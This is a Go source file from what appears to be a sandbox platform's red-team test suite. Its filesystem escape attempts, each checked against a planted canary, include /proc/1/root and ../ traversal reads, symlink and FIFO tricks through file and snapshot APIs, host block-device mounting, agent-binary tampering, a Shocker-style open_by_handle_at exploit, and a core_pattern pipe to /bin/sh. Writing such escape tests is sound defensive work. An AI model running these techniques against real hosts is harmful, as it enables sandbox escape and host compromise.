package redteam

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/space-platform/space/pkg/client"
)

func filesystemAttempts() []Attempt {
	return []Attempt{
		{
			Name: "host file via /proc/1/root", Category: Filesystem,
			Expected: "canary path not found", Escape: "reading a host file by its host path",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `
for p in "$CANARY_PATH" "/proc/1/root$CANARY_PATH" "/proc/self/root$CANARY_PATH" "/proc/1/cwd/../../../..$CANARY_PATH" "/.space/bin/../../..$CANARY_PATH"; do
  if out=$(cat "$p" 2>&1); then escaped "read $p: $out"; fi
done
ls -la /proc/1/root/ "$CANARY_DIR" 2>&1 | head -40
blocked "no host path resolves: $(cat "/proc/1/root$CANARY_PATH" 2>&1 | sed 's/.*: //')"`)
			},
		},
		{
			Name: "../ traversal through the files API", Category: Filesystem,
			Expected: "paths resolve inside the sandbox", Escape: "the files API reading a host file",
			Run: func(ctx context.Context, s *Scene) Verdict {
				h := s.host
				paths := []string{
					"/../../../../.." + h.canaryPath, "../../../../.." + h.canaryPath, "/home/user/../../../.." + h.canaryPath,
					"/proc/1/root" + h.canaryPath, "/proc/self/root/../../.." + h.canaryPath, "//" + h.canaryPath,
					"/.space/bin/../../.." + h.canaryPath,
				}
				return filesAPIRead(ctx, s, paths)
			},
		},
		{
			Name: "symlinks to host paths read through the files API", Category: Filesystem,
			Expected: "links resolve inside the sandbox", Escape: "the node following a sandbox's symlink on the host",
			Run: func(ctx context.Context, s *Scene) Verdict {
				if v := s.sh(ctx, `set -e
ln -sfn / /home/user/rt-root; ln -sfn "$CANARY_PATH" /home/user/rt-canary; ln -sfn /proc/1/root /home/user/rt-p1
ln -sfn ../../../../../../.."$CANARY_PATH" /home/user/rt-rel
blocked planted`); v.Outcome != Blocked {
					return failed("plant links: %s", v.Evidence)
				}
				h := s.host
				return filesAPIRead(ctx, s, []string{"/home/user/rt-canary", "/home/user/rt-rel", "/home/user/rt-root" + h.canaryPath,
					"/home/user/rt-p1" + h.canaryPath, "/home/user/rt-root" + h.canaryDir})
			},
		},
		{
			Name: "symlinks and a FIFO read from a snapshot", Category: Filesystem,
			Expected: "refused: path escapes the volume", Escape: "the host following links in a sandbox's volume, or hanging on a FIFO",
			Run: snapshotRead,
		},
		{
			Name: "write a host path through the files API", Category: Filesystem,
			Expected: "the file lands inside the sandbox", Escape: "creating a file on the host",
			Run: func(ctx context.Context, s *Scene) Verdict {
				h := s.host
				var notes []string
				for _, p := range []string{"/../../../.." + h.dropPath, "/proc/1/root" + h.dropPath, "/home/user/../../.." + h.dropPath} {
					_, err := s.api.WriteFile(ctx, s.Attacker, p, strings.NewReader("written from a sandbox"))
					notes = append(notes, fmt.Sprintf("%s: %s", p, errText(err)))
				}
				s.record(notes...)
				// Where the writes went: inside the sandbox, which the host
				// check (the drop path must not exist on the host) confirms.
				v := s.sh(ctx, `if [ -f "$DROP_PATH" ]; then blocked "the write landed at $DROP_PATH inside the sandbox"; else blocked "no write landed"; fi`)
				if v.Outcome == Blocked {
					v.Evidence += " (" + strings.Join(notes, "; ") + ")"
				}
				return v
			},
		},
		{
			Name: "mount a host block device", Category: Filesystem, Tools: []string{"mount"},
			Expected: "no device to open but a guest's own disk", Escape: "mounting or reading the host's disk",
			Run: func(ctx context.Context, s *Scene) Verdict {
				// A microVM guest's root is a virtual disk of its own (the
				// image cloned for it): that one it may read; the next
				// attempt tries to write past its end.
				return s.sh(ctx, `mkdir -p /mnt/rt
ls /dev | tr '\n' ' '; echo
own=""; while read -r _ _ mm _ mp _; do [ "$mp" = / ] && { own=$mm; break; }; done < /proc/self/mountinfo
for d in sda:8:0 vda:253:0 vdb:253:16 xvda:202:0 nvme0n1:259:0 loop0:7:0 dm0:254:0; do
  name=${d%%:*}; rest=${d#*:}; maj=${rest%%:*}; min=${rest#*:}
  [ -e /dev/$name ] || mknod /dev/$name b $maj $min 2>/dev/null
  # By the node's real numbers: a guest's virtio disk takes a dynamic major.
  real=$(stat -L -c '%t %T' /dev/$name 2>/dev/null)
  if [ -n "$real" ] && [ "$((0x${real% *})):$((0x${real#* }))" = "$own" ]; then
    echo "/dev/$name ($own) is this sandbox's own root disk"; continue
  fi
  n=$(head -c 512 /dev/$name 2>/dev/null | wc -c)
  [ "$n" -gt 0 ] && escaped "read $n bytes from /dev/$name ($maj:$min)"
  for t in ext4 btrfs xfs; do
    if mount -o ro -t $t /dev/$name /mnt/rt 2>/dev/null; then escaped "mounted /dev/$name as $t: $(ls /mnt/rt | head)"; umount /mnt/rt; fi
  done
done
blocked "block devices cannot be opened: $(head -c1 /dev/sda 2>&1 | sed 's/.*: //') (root is $own)"`)
			},
		},
		{
			Name: "write the root disk past its end", Category: Filesystem,
			Expected: "no space on the device, the host image unchanged", Escape: "a guest's writes reaching beyond its disk image on the host",
			Run: writePastRootDisk,
		},
		{
			// Own: in a microVM guest root may remount its agent's
			// directory and unlink the binary, which later commands need.
			Name: "write the read-only agent binary", Category: Filesystem, Own: &Sandbox{},
			Expected: "read-only file system, or only a guest's own copy", Escape: "replacing the agent every sandbox runs (host file)",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `a=/.space/bin/space-agent
before=$(sha256sum $a | cut -d' ' -f1)
echo x >> $a 2>/dev/null && echo "append went through"
mount -o remount,rw /.space/bin 2>/dev/null && echo x >> $a 2>/dev/null && echo "remount went through"
mkdir -p /mnt/rtbin && mount --bind /.space/bin /mnt/rtbin 2>/dev/null && mount -o remount,rw,bind /mnt/rtbin 2>/dev/null && echo x >> /mnt/rtbin/space-agent 2>/dev/null && echo "rw bind went through"
cp /bin/true $a 2>/dev/null; rm -f $a 2>/dev/null; mv $a $a.old 2>/dev/null
after=$(sha256sum $a 2>/dev/null | cut -d' ' -f1)
if [ "$before" != "$after" ]; then
  # A guest's agent is a copy in its initramfs, in the guest's memory; the
  # host's copies (the agent store, the initramfs) are checked from outside.
  [ "$RUNTIME" = microvm ] && blocked "only the guest's own copy, in its memory, changed: $before -> ${after:-removed}"
  [ "$RUNTIME" = microvm ] || escaped "agent binary changed: $before -> $after"
fi
blocked "unchanged: $(echo x 2>&1 >> $a | sed 's/.*: //')"`)
			},
		},
		{
			Name: "mount a new filesystem to see the host's", Category: Filesystem, Tools: []string{"mount"},
			Expected: "only the sandbox's files", Escape: "a mount exposing host files (9p, overlay, sysfs, proc)",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `mkdir -p /mnt/rtm
try() { if mount "$@" /mnt/rtm 2>/dev/null; then
    [ -e "/mnt/rtm$CANARY_DIR" ] && escaped "mount $* shows the host canary directory"
    ls /mnt/rtm 2>&1 | head -20 | tr '\n' ' '; echo; umount /mnt/rtm; echo "mounted: $*"; else echo "refused: $*"; fi; }
try -t 9p -o trans=fd,rfdno=3,wfdno=3 none
try -t 9p -o trans=tcp 169.254.0.22
try -t overlay -o lowerdir=/,upperdir=/tmp,workdir=/var/tmp none
try -t sysfs none
try -t proc none
try -t tmpfs none
try -t fuse none
try -t nfs 169.254.0.22:/
[ -e "/mnt/rtm$CANARY_DIR" ] || blocked "nothing mounted shows the host"`)
			},
		},
		{
			// A guest's kernel resolves handles in the guest's own disk.
			Name: "shocker: open_by_handle_at", Category: Filesystem,
			Expected: "handles not supported, or a guest's own", Escape: "opening a host inode by file handle (CVE-2014-3519 style)",
			Run: guestKernel(func(ctx context.Context, s *Scene) Verdict {
				return s.py(ctx, `
libc = ctypes.CDLL(None, use_errno=True)
mnt = ctypes.c_int()
buf = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + b"\0" * 128)
r = libc.syscall(303, -100, b"/", buf, ctypes.byref(mnt), 0)
print("name_to_handle_at", r, errno.errorcode.get(ctypes.get_errno()))
fds = []
# ext4 root (type 1, inode 2) and btrfs root (type 0x4d, objectid 256).
for htype, payload in [(1, struct.pack("<II", 2, 0)), (0x4d, struct.pack("<QQ", 256, 5)), (0x4d, struct.pack("<QQ", 256, 0))]:
    h = ctypes.create_string_buffer(struct.pack("<Ii", len(payload), htype) + payload)
    for dirfd in (-100, os.open("/", os.O_RDONLY)):
        fd = libc.syscall(304, dirfd, h, os.O_RDONLY | os.O_DIRECTORY)
        if fd >= 0:
            escaped("open_by_handle_at(type %#x) gave fd %d listing %s" % (htype, fd, os.listdir("/proc/self/fd/%d" % fd)[:20]))
        else:
            fds.append(errno.errorcode.get(ctypes.get_errno(), "?"))
blocked("open_by_handle_at: " + ",".join(sorted(set(fds))))`)
			}),
		},
		{
			Name: "write /proc/sys and a core_pattern pipe", Category: Filesystem,
			Expected: "host sysctls unchanged", Escape: "changing the host kernel's settings, or running a host program on a crash",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `r=""
for kv in "kernel/core_pattern=|/bin/sh -c 'touch $DROP_PATH'" kernel/sysrq=1 net/ipv4/ip_forward=0 kernel/hostname=pwned kernel/modprobe=/tmp/x vm/overcommit_memory=1; do
  k=${kv%%=*}; v=${kv#*=}
  if (echo "$v" > /proc/sys/$k) 2>/dev/null; then r="$r $k:accepted-in-sandbox"; else r="$r $k:refused"; fi
done
sh -c 'kill -SEGV $$' 2>/dev/null
sysctl -w kernel.core_pattern=/tmp/core >/dev/null 2>&1 && r="$r sysctl:accepted-in-sandbox"
blocked "writes:$r (the host's values are checked from outside)"`)
			},
		},
		{
			Name: "host paths through open file descriptors", Category: Filesystem,
			Expected: "descriptors name sandbox files only", Escape: "a descriptor leaked from the host (runsc, gofer) into the sandbox",
			Run: func(ctx context.Context, s *Scene) Verdict {
				return s.sh(ctx, `targets=$(for f in /proc/[0-9]*/fd/*; do readlink "$f"; done 2>/dev/null | sort -u)
echo "$targets" | head -100
bad=$(echo "$targets" | grep -E "${DATA_DIR:-/var/lib/space}|runsc|/var/lib/space|$CANARY_DIR" | head -5)
[ -n "$bad" ] && escaped "host paths among descriptors: $bad"
for f in /proc/[0-9]*/fd/*; do cat "$f$CANARY_PATH" 2>/dev/null && escaped "canary through $f"; done
blocked "$(echo "$targets" | wc -l) descriptor targets, none on the host"`)
			},
		},
	}
}

// filesAPIRead reads each path of the attacker through the files API and
// lists it when it is a directory; the secret scan judges the content.
func filesAPIRead(ctx context.Context, s *Scene, paths []string) Verdict {
	var notes []string
	for _, p := range paths {
		body, err := s.api.ReadFile(ctx, s.Attacker, p)
		if errors.Is(err, client.ErrIsDirectory) {
			list, lerr := s.api.ListDir(ctx, s.Attacker, p, 1)
			if lerr == nil {
				var names []string
				for _, e := range list.Entries {
					names = append(names, e.Name)
				}
				s.record(strings.Join(names, " "))
				notes = append(notes, p+": a sandbox directory")
				continue
			}
			err = lerr
		}
		if err != nil {
			notes = append(notes, p+": "+errText(err))
			continue
		}
		b, _ := io.ReadAll(io.LimitReader(body, 1<<20))
		body.Close()
		s.record(string(b))
		if strings.Contains(string(b), s.host.canaryToken) {
			return escaped("%s returned the host canary", p)
		}
		notes = append(notes, fmt.Sprintf("%s: %d bytes of a sandbox file", p, len(b)))
	}
	return blocked("%s", strings.Join(notes, "; "))
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	var apiErr *client.APIError
	if errors.As(err, &apiErr) {
		return fmt.Sprintf("%d", apiErr.StatusCode)
	}
	return err.Error()
}

// snapshotRead plants escaping links and a FIFO, snapshots the sandbox and
// reads them through the snapshot API, the one files route the host
// serves from the volume itself instead of through the sandbox's agent.
func snapshotRead(ctx context.Context, s *Scene) Verdict {
	if v := s.sh(ctx, `set -e
ln -sfn / /home/user/rt-root; ln -sfn "$CANARY_PATH" /home/user/rt-canary
ln -sfn ../../../../../../../..$CANARY_PATH /home/user/rt-rel
mkdir -p /home/user/rt-dir && ln -sfn .. /home/user/rt-dir/up
rm -f /home/user/rt-fifo; mkfifo /home/user/rt-fifo
blocked planted`); v.Outcome != Blocked {
		return failed("plant: %s", v.Evidence)
	}
	name := "rt-" + randomHex(4)
	if _, err := s.api.CreateSnapshot(ctx, s.Attacker, name); err != nil {
		return failed("snapshot: %v", err)
	}
	defer func() {
		dctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		_ = s.api.DeleteSnapshot(dctx, s.Attacker, name)
	}()
	h := s.host
	var notes []string
	for _, p := range []string{"/home/user/rt-canary", "/home/user/rt-rel", "/home/user/rt-root" + h.canaryPath,
		"/home/user/rt-root" + h.canaryDir, "/home/user/rt-dir/up/up/up" + h.canaryPath, "/../../../.." + h.canaryPath, "/home/user/rt-fifo"} {
		rctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		body, err := s.api.ReadFileFromSnapshot(rctx, s.Attacker, p, name)
		if err == nil {
			b, rerr := io.ReadAll(io.LimitReader(body, 1<<20))
			body.Close()
			s.record(string(b))
			err = rerr
			if err == nil {
				notes = append(notes, fmt.Sprintf("%s: %d bytes", p, len(b)))
			}
		}
		hung := errors.Is(rctx.Err(), context.DeadlineExceeded)
		cancel()
		if hung {
			return escaped("reading %s from the snapshot held a server request for 10 s", p)
		}
		if err != nil {
			notes = append(notes, p+": "+errText(err))
		}
	}
	return blocked("%s", strings.Join(notes, "; "))
}

// writePastRootDisk writes at and past the end of the attacker's root
// block device (a microVM guest's disk, an image file on the host): the
// guest's kernel and QEMU must refuse, and the image on the host keeps
// its size. On a backend whose root is no block device there is nothing
// to write to.
func writePastRootDisk(ctx context.Context, s *Scene) Verdict {
	image := ""
	before := ""
	if s.cfg.DataDir != "" {
		image = filepath.Join(s.cfg.DataDir, "volumes", "sandboxes", s.Attacker, "rootfs.img")
		if fi, err := os.Stat(image); err == nil {
			before = fmt.Sprint(fi.Size())
		}
	}
	v := s.py(ctx, `
import fcntl
root = open("/proc/self/mountinfo").read().split("\n")
dev = next((l.split()[2] for l in root if len(l.split()) > 4 and l.split()[4] == "/"), "")
sysdev = "/sys/dev/block/" + dev
if not os.path.exists(sysdev):
    blocked("the root (%s) is no block device: nothing to write past" % dev); sys.exit(0)
name = os.path.basename(os.path.realpath(sysdev))
size = int(open(sysdev + "/size").read()) * 512
path = "/dev/" + name
if not os.path.exists(path): os.mknod(path, 0o600 | 0o060000, os.makedev(*map(int, dev.split(":"))))
fd = os.open(path, os.O_RDWR)
res = []
for off in (size, size + 4096, size + (1 << 30), (1 << 62)):
    try:
        n = os.pwrite(fd, b"space-redteam" * 40, off); os.fsync(fd)
        escaped("wrote %d bytes at %d, past the %d-byte disk %s" % (n, off, size, path))
    except OSError as e: res.append("%d:%s" % (off, errno.errorcode.get(e.errno, "?")))
try:
    fcntl.ioctl(fd, 0x1277, struct.pack("QQ", size - 4096, 1 << 20))  # BLKDISCARD across the end
    escaped("BLKDISCARD across the end of %s accepted" % path)
except OSError as e: res.append("discard:" + errno.errorcode.get(e.errno, "?"))
blocked("%s is %d bytes; past its end: %s" % (path, size, " ".join(res)))`)
	if before != "" && v.Outcome == Blocked {
		after := ""
		if fi, err := os.Stat(image); err == nil {
			after = fmt.Sprint(fi.Size())
		}
		if after != before {
			return escaped("the sandbox's image on the host went from %s to %s bytes", before, after)
		}
		v.Evidence += "; the image on the host is still " + before + " bytes"
	}
	return v
}
